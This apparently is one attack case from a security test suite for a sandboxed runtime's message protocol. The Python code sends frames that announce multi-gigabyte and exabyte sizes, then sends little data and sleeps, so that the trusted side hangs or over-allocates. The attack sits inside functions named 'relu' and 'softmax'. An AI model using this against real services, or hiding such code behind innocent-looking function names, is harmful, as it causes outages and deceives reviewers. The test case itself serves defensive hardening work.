# ATTACK: p_giant_sizes
# GROUP: protocol
# GOAL: announce sizes of gigabytes and exabytes, then send little or nothing
# SUCCESS: the trusted side allocates it or waits beyond its limit
# CHECK: hang
# EARNED: 0
# BASE: none
import json, os, struct

PREFIX = struct.Struct("<2sBBIIQ")  # magic, version, kind, number, head bytes, payload bytes
READY, REPLY, RAISED, CALLBACK = 32, 33, 34, 35


def frame(kind, number, body=None, head=None, payload=b"", magic=b"AG", head_size=None, payload_size=None):
    head = json.dumps(body).encode() if head is None else head
    sizes = (len(head) if head_size is None else head_size, len(payload) if payload_size is None else payload_size)
    return PREFIX.pack(magic, 1, kind, number, *sizes) + head + payload


def reply(value, number, payload=b""):
    return frame(REPLY, number, [value, [], "", []], payload=payload)


def channel():
    """The descriptor that is a socket: there is one."""
    import stat
    for fd in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return 3


def send(data):
    try:
        os.write(channel(), data)
    except OSError as error:
        print("refused:", error)


import time
def relu(x):
    send(frame(REPLY, 2, head=b"x" * 10, head_size=2**32 - 1, payload_size=2**63))
    time.sleep(30)
def softmax(x):
    send(frame(REPLY, 1, head=b"[" + b" " * 100, head_size=4 << 20, payload_size=64 << 20))
    time.sleep(30)
